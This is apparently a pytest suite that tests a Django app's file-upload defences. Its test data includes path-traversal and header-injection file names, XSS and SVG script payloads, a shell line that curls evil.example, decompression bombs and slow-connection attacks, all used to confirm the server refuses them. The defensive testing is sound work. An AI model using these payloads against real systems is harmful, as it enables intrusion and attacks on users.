"""Attacks by files: other people's files, false types, sizes and names."""

import socket
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from typing import Any
from uuid import uuid4

import pytest
from django.test import Client

from autodoctor.accounts.models import User
from autodoctor.files.models import StoredFile
from autodoctor.files.streaming_upload import AT_ONCE
from autodoctor.files.tests import samples
from autodoctor.files.tests.samples import PDF, film, photo, position_in, upload
from autodoctor.room.tests.live_session import live_session
from autodoctor.sessions.models import SessionEvent
from autodoctor.sessions.states import State
from tests.faults.test_files import MEGABYTE, address, form, head, incoming, listed, share, stored
from tests.kit import scene
from tests.kit.server import Server
from tests.kit.waiting import until

ClientOf = Callable[[User], Client]
# Each with the name that is kept.
HOSTILE_NAMES = {
    "../../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\boot.pdf": "boot.pdf",
    "a\x00b.pdf": "a b.pdf",
    "invoice\u202efdp.html": "invoice fdp.html.pdf",
    "\U0001f600.pdf": "\U0001f600.pdf",
    ".": "file.pdf",
}
# Each with the answer.
BROKEN_NAMES = {
    "a\r\nX-Evil: yes.pdf": 422,
    '"><script>alert(1)</script>.pdf': 422,
    "": 422,
    "x" * 5_000 + ".pdf": 400,
    "\ud83d\ude00.pdf": 400,
}


@pytest.fixture
def their_file(customer: User, mechanic: User, client_of: ClientOf) -> tuple[str, str]:
    """The session and the file of two other people."""
    session = live_session(customer, mechanic)
    made = client_of(customer).post(f"/api/sessions/{session.id}/files", {"file": upload("a.jpg", photo())})
    return str(session.id), made.json()["id"]


def answers(client: Client, session_id: str, file_id: str) -> list[tuple[int, str]]:
    """Return everything that a person sees at every address of a file, with both ids blanked."""
    api, page = f"/api/sessions/{session_id}/files", f"/sessions/{session_id}/files/{file_id}/"
    asked = [
        client.get(api),
        client.post(api, {"file": upload("a.pdf", PDF)}),
        client.delete(f"{api}/{file_id}"),
        client.get(page),
        client.get(page + "thumbnail/"),
        client.get(page + "?download=1"),
    ]
    seen = [(one.status_code, one.content.decode().replace(session_id, "S").replace(file_id, "F")) for one in asked]
    return [(status, body if status < 404 or body.startswith("{") else "page") for status, body in seen]


def test_other_peoples_files_are_the_same_404_as_unknown_ones(
    their_file: tuple[str, str], stranger: User, mechanic2: User, client_of: ClientOf
) -> None:
    for person in (stranger, mechanic2):
        theirs = answers(client_of(person), *their_file)
        assert theirs == answers(client_of(person), str(uuid4()), str(uuid4()))
        assert {status for status, _ in theirs} == {404}
    assert StoredFile.objects.count() == 1


def test_a_file_is_reached_through_its_own_session_only(
    their_file: tuple[str, str], stranger: User, mechanic2: User, client_of: ClientOf
) -> None:
    own = live_session(stranger, mechanic2)
    client = client_of(stranger)
    assert client.get(f"/sessions/{own.id}/files/{their_file[1]}/").status_code == 404
    assert client.delete(f"/api/sessions/{own.id}/files/{their_file[1]}").status_code == 404
    assert StoredFile.objects.filter(removed_at=None).count() == 1


@pytest.mark.parametrize("state", [State.DRAFT, State.COMPLETED, State.CANCELLED, State.EXPIRED])
def test_no_file_can_be_shared_before_the_payment_or_after_the_end(
    customer: User, mechanic: User, client_of: ClientOf, state: State
) -> None:
    session = live_session(customer, None if state == State.DRAFT else mechanic, state=state)
    refused = client_of(customer).post(f"/api/sessions/{session.id}/files", {"file": upload("a.pdf", PDF)})
    assert (refused.status_code, refused.json()["error"]) == (409, "session_closed")
    assert not StoredFile.objects.exists()
    assert not SessionEvent.objects.exists()


def share_as(talk: Any, name: str) -> Any:
    """Share a file; the name is sent byte by byte, so that no client makes it harmless."""
    disposition = f'form-data; name="file"; filename="{name}"'.encode("utf-8", "surrogatepass")
    body = b"--b\r\nContent-Disposition: " + disposition + b"\r\n\r\n" + PDF + b"\r\n--b--\r\n"
    client = talk.server.client(talk.customer)
    return client.post(address(talk), content=body, headers={"Content-Type": "multipart/form-data; boundary=b"})


@pytest.mark.parametrize(("name", "kept"), HOSTILE_NAMES.items(), ids=ascii)
def test_the_name_of_a_file_reaches_no_path_and_breaks_no_header(server: Server, name: str, kept: str) -> None:
    talk = scene.stage(server)
    answer = share_as(talk, name)
    assert (answer.status_code, answer.json()["name"]) == (201, kept), answer.text
    served = server.client(talk.customer).get(answer.json()["url"])
    assert served.content == PDF
    assert served.headers["Content-Disposition"].startswith("attachment; filename")
    assert "X-Evil" not in served.headers
    assert all(len(path.name) == 32 for path in stored(server))
    until(lambda: not incoming(server))


@pytest.mark.parametrize(("name", "status"), BROKEN_NAMES.items(), ids=lambda value: ascii(value)[:40])
def test_a_file_name_that_breaks_its_form_is_refused_and_nothing_stored(server: Server, name: str, status: int) -> None:
    talk, before = scene.stage(server), stored(server)
    answer = share_as(talk, name)
    assert answer.status_code == status, answer.text
    assert "X-Evil" not in answer.headers
    assert stored(server) == before
    until(lambda: not incoming(server))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.jpg", b"<!DOCTYPE html><script>alert(document.domain)</script>"),
        ("photo.jpg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("photo.jpg", b"#!/bin/sh\ncurl evil.example"),
        ("notes.txt", b"<html><script>alert(1)</script>"),
    ],
)
def test_pages_drawings_and_scripts_are_refused(server: Server, name: str, content: bytes) -> None:
    refused = share(scene.stage(server), content, name)
    assert (refused.status_code, refused.json()["error"]) == (415, "wrong_type")


def test_polyglot_files_are_served_without_executing(server: Server) -> None:
    """A picture with a hidden page loses the page; other files are never shown as a page."""
    talk, payload = scene.stage(server), b"<script>alert(document.domain)</script>"
    client = server.client(talk.mechanic)
    picture = share(talk, photo() + payload, "a.html").json()
    for url in (picture["url"], picture["thumbnail_url"]):
        served = client.get(url)
        assert payload not in served.content
        assert served.headers["Content-Type"] == "image/jpeg"
    for name, content in (("a.html", PDF + payload), ("a.html", b"notes\n" + payload), ("a.svg", film() + payload)):
        answer = share(talk, content, name)
        if answer.status_code == 415:
            continue
        served = client.get(answer.json()["url"])
        assert not answer.json()["name"].endswith((".html", ".svg"))
        assert not served.headers["Content-Type"].startswith(("text/html", "image/svg"))
        assert served.headers["Content-Disposition"].startswith("attachment")
        assert served.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in served.headers["Content-Security-Policy"]


def test_no_copy_of_a_photo_contains_its_position(server: Server) -> None:
    talk = scene.stage(server)
    content = photo("HEIF")
    assert position_in(content)
    made = share(talk, content, "IMG_0001.HEIC").json()
    client = server.client(talk.mechanic)
    for url in (made["url"], made["thumbnail_url"]):
        assert not position_in(client.get(url).content)
    clip = share(talk, film(b"qt  ", position="+52.5200+013.4050/"), "clip.mov").json()
    assert b"+52.52" not in client.get(clip["url"]).content
    copies = [path.read_bytes() for path in stored(server)]
    assert len(copies) >= 3  # the photo, its thumbnail and the clip
    assert not any(b"+52.52" in copy for copy in copies)


def resident(server: Server, part: str = "VmRSS") -> int:
    """Return the resident memory, or a part of it, in MB."""
    return server.memory(part) // 1024**2


def test_decompression_bombs_do_not_grow_the_memory(start_server: Any) -> None:
    server = start_server()
    talk = scene.stage(server)
    share(talk, photo(), "a.jpg")
    bombs = [
        samples.png_claiming(50_000, 50_000),
        samples.gif_claiming(65_535, 65_535),
        samples.animation(frames=300, size=(1000, 1000)),
        samples.many_tiles(),
    ]
    with own_memory(server) as sizes:
        for bomb in bombs * 2:
            refused = share(talk, bomb, "a.png")
            assert (refused.status_code, refused.json()["error"]) == (415, "wrong_type")
    assert len(sizes) > 20
    assert max(sizes) - sizes[0] < 32
    assert len(listed(talk)) == 1


def test_uploads_and_downloads_are_never_whole_in_memory(start_server: Any) -> None:
    server = start_server()
    talk = scene.stage(server)
    with ThreadPoolExecutor(6) as pool:  # as many as a browser sends: the answer may arrive before the upload ends
        # What every thread of the server takes once is no part of a file: its connection, its share of the heap.
        share_and_fetch(pool, talk, film(filling=MEGABYTE // 10))
        with own_memory(server) as sizes:
            share_and_fetch(pool, talk, film(filling=9 * MEGABYTE))
    assert len(sizes) > 20
    assert max(sizes) - sizes[0] <= 32


@contextmanager
def own_memory(server: Server) -> Iterator[list[int]]:
    """Collect again and again how much memory is the server's own, in MB.

    `VmHWM` would also count the pages of files that are looked through where they lie, which cost nothing.
    """
    sizes = [resident(server, "RssAnon")]
    over = threading.Event()

    def collect() -> None:
        while not over.wait(0.005):
            sizes.append(resident(server, "RssAnon"))

    collector = threading.Thread(target=collect)
    collector.start()
    try:
        yield sizes
    finally:
        over.set()
        collector.join()


def share_and_fetch(pool: ThreadPoolExecutor, talk: scene.Talk, content: bytes) -> None:
    """Share a file 16 times, several at once, and fetch all of them as the mechanic."""
    made = list(pool.map(lambda _: share(talk, content), range(16)))
    assert {answer.status_code for answer in made} == {201}
    clients = [talk.server.client(talk.mechanic) for _ in made]
    got = list(pool.map(lambda pair: pair[0].get(pair[1].json()["url"]), zip(clients, made, strict=True)))
    assert {answer.content == content for answer in got} == {True}


def test_a_slow_download_holds_a_piece_of_the_file_in_memory_only(start_server: Any) -> None:
    server = start_server()
    talk = scene.stage(server)
    url = share(talk, film(filling=9 * MEGABYTE)).json()["url"]
    before = resident(server)
    readers = [socket.create_connection(("localhost", server.port)) for _ in range(20)]
    try:
        for reader in readers:
            reader.sendall(f"GET {url} HTTP/1.1\r\nHost: localhost:{server.port}\r\n\r\n".encode())
        assert all(reader.recv(100).startswith(b"HTTP/1.1 200") for reader in readers)
        assert share(talk, PDF, "a.pdf").status_code == 201
        assert resident(server) - before <= 32
    finally:
        for reader in readers:
            reader.close()


def test_more_than_ten_megabytes_are_refused_with_the_limit(server: Server) -> None:
    talk = scene.stage(server)
    for size in (10 * MEGABYTE + 1, 30 * MEGABYTE):
        refused = share(talk, film(filling=size))
        assert (refused.status_code, refused.json()["error"]) == (413, "too_large")
        assert "10 MB" in refused.json()["detail"]
    assert not listed(talk)
    until(lambda: not incoming(server))


def test_an_upload_of_a_stranger_is_not_written_to_the_disk(server: Server) -> None:
    """A stranger's upload is not written to the disk while it arrives."""
    talk, other = scene.stage(server), scene.stage(server)
    client, body = server.client(other.customer), form(film(filling=4 * MEGABYTE))
    before = stored(server)
    with socket.create_connection(("localhost", server.port)) as connection:
        connection.sendall(head(talk, len(body), client) + body[: len(body) // 2])
        time.sleep(0.3)
        assert not incoming(server)
        connection.sendall(body[len(body) // 2 :])
        assert connection.recv(20).startswith(b"HTTP/1.1 404")
    assert server.client().post(address(talk), files={"file": ("a.pdf", PDF)}).status_code == 401
    assert stored(server) == before


def test_slow_uploads_of_one_person_do_not_hold_up_those_of_others(server: Server) -> None:
    talk = scene.stage(server)
    client = server.client(talk.customer)
    drips = [socket.create_connection(("localhost", server.port)) for _ in range(AT_ONCE)]
    try:
        for drip in drips:
            drip.sendall(head(talk, 5 * MEGABYTE, client) + form(b"")[:100])
        until(lambda: refused_at_once(talk))
        assert share(talk, PDF, "a.pdf", talk.mechanic).status_code == 201
    finally:
        for drip in drips:
            drip.close()
    until(lambda: share(talk, PDF, "a.pdf").status_code == 201)


def refused_at_once(talk: Any) -> bool:
    """Return how many parallel uploads of one person are refused."""
    answer = share(talk, PDF, "a.pdf")
    return bool(answer.status_code == 429 and answer.json()["error"] == "too_fast")


def test_no_more_than_fifty_files_uploaded_at_once_are_stored_in_a_session(server: Server) -> None:
    talk = scene.stage(server)
    with ThreadPoolExecutor(6) as pool:
        found = list(pool.map(lambda _: share(talk, b"a small note\n", "a.txt").status_code, range(60)))
    assert sorted(set(found)) == [201, 409]
    assert found.count(201) == len(listed(talk)) == 50


def test_malformed_upload_forms_are_answered(server: Server) -> None:
    talk = scene.stage(server)
    client = server.client(talk.customer)
    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n' + PDF
    bodies = [
        *(b"", b"--b--\r\n", b"nothing", part, part + b"\r\n" + part + b"\r\n--b--\r\n", b"--b\r\n" + b"x" * 9_000),
        b'--b\r\nContent-Disposition: form-data; name="client_id"\r\n\r\n' + b"9" * 5_000 + b"\r\n--b--\r\n",
        b"".join(b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n' for _ in range(50)) + b"--b--\r\n",
    ]
    for body in bodies:
        for kind in ("multipart/form-data; boundary=b", "multipart/form-data", "multipart/form-data; boundary="):
            answer = client.post(address(talk), content=body, headers={"Content-Type": kind})
            assert answer.status_code in {400, 422}, (body[:80], kind, answer.text)
            assert answer.json()["detail"]
    until(lambda: not incoming(server))
    assert not listed(talk)


def test_the_seal_of_a_file_address_is_not_logged(server: Server) -> None:
    talk = scene.stage(server)
    url = share(talk, PDF, "a.pdf").json()["url"]
    server.client(talk.mechanic).get(url)
    assert url.partition("?")[0] in server.log()
    assert "seal=" not in server.log()


def asked_by(server: Server, email: str) -> str:
    """Return the id of a new question of this account, or of a visitor with this address."""
    return server.shell(
        "from django.utils import timezone as t\n"
        "from autodoctor.accounts.models import User\n"
        "from autodoctor.conversations import asking as a\n"
        "question, now = a.Question(topic='other', text='Hello?'), t.now()\n"
        f"person = User.objects.filter(email={email!r}).first()\n"
        "begun = a.ask(question, by=person, now=now) if person else"
        f" a.ask_as_visitor(question, name='V', email={email!r}, now=now)\n"
        "print(begun.pk)"
    ).strip()


def send_to(client: Any, question_id: str, *contents: bytes, text: str = "Über die Straße " * 100) -> Any:
    files = [("file", (f"{number}.pdf", content)) for number, content in enumerate(contents)]
    token = client.headers["X-CSRFToken"]
    return client.post(f"/help/{question_id}/", data={"text": text, "csrfmiddlewaretoken": token}, files=files)


def test_files_of_a_form_to_support_are_taken_one_by_one_and_refused_by_name(server: Server) -> None:
    talk = scene.stage(server)
    client, before = server.client(talk.customer), len(stored(server))
    question_id = asked_by(server, talk.customer.email)
    sent = send_to(client, question_id, PDF, film(filling=10 * MEGABYTE), PDF)
    assert sent.status_code == 303, sent.text
    page = " ".join(client.get(f"/help/{question_id}/").text.split())
    assert "Über die Straße Über" in page
    assert "1.pdf was not taken: This file is too large. The limit is 10 MB." in page
    assert len(stored(server)) == before + 2
    assert send_to(client, question_id, *[b"a note"] * 12).status_code == 303
    assert "11.pdf was not taken: A message can bring up to 10 files" in " ".join(
        client.get(f"/help/{question_id}/").text.split()
    )
    assert len(stored(server)) == before + 12
    until(lambda: not incoming(server))


def test_files_to_a_question_of_somebody_else_are_not_written_to_the_disk(server: Server) -> None:
    talk, other = scene.stage(server), scene.stage(server)
    questions = asked_by(server, talk.customer.email), asked_by(server, "somebody@example.com")
    client, before = server.client(other.customer), stored(server)
    for question_id in questions:
        body = form(film(filling=4 * MEGABYTE))
        lines = head(talk, len(body), client).replace(address(talk).encode(), f"/help/{question_id}/".encode())
        with socket.create_connection(("localhost", server.port)) as connection:
            connection.sendall(lines + body[: len(body) // 2])
            time.sleep(0.3)
            assert not incoming(server)
            connection.sendall(body[len(body) // 2 :])
            assert connection.recv(20).startswith(b"HTTP/1.1 404")
    assert stored(server) == before
